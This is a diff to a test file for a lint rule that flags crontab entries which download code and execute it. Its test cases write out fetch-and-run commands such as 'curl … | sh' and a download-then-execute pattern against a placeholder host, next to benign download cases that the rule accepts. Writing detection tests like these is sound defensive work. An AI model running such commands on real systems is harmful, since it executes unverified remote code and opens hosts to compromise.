@@ -14,8 +14,11 @@ testRule(remoteCodeExec, {
     { text: "0 4 * * * root sh -c 'curl -s https://x.example/a | sh'\n", errors: [{ line: 1, message: /curl … \| sh/ }] },
     { text: '0 4 * * * root cd /tmp && curl -s https://x.example/a | timeout 60 sh > /dev/null 2>&1\n', errors: [{ line: 1, message: /curl … \| sh/ }] },
     { text: '0 4 * * * alice python3 -c "$(curl -s https://x.example/a.py)"\n', errors: [{ line: 1, message: /python3` runs the output of `curl`/ }] },
+    { text: '0 4 * * * root wget -q -O /tmp/i.sh https://x.example/i.sh && sh /tmp/i.sh\n', errors: [{ line: 1, message: '`wget` saves /tmp/i.sh and the job then runs it, unverified' }] },
+    { text: '0 4 * * * root curl -fsSo /opt/agent https://x.example/agent; chmod +x /opt/agent; /opt/agent --once\n', errors: [{ line: 1, message: /`curl` saves \/opt\/agent/ }] },
   ],
   valid: [
+    { name: 'a downloaded file that is only read', text: '0 4 * * * root curl -fsS -o /var/lib/app/feed.json https://x.example/feed && /usr/local/bin/import /var/lib/app/feed.json\n' },
     { name: 'tee is not an interpreter', text: '0 * * * * root curl -fsS https://x.example/feed | tee /var/lib/app/feed.json\n' },
     { name: 'local script reads the download as data', text: '0 * * * * root curl -fsS https://x.example/d.csv | /usr/bin/python3 /opt/etl/load.py\n' },
     { name: 'sh -c with a literal script reads no stdin code', text: "0 * * * * root curl -fsS https://x.example/d | sh -c 'cat > /var/lib/d'\n" },
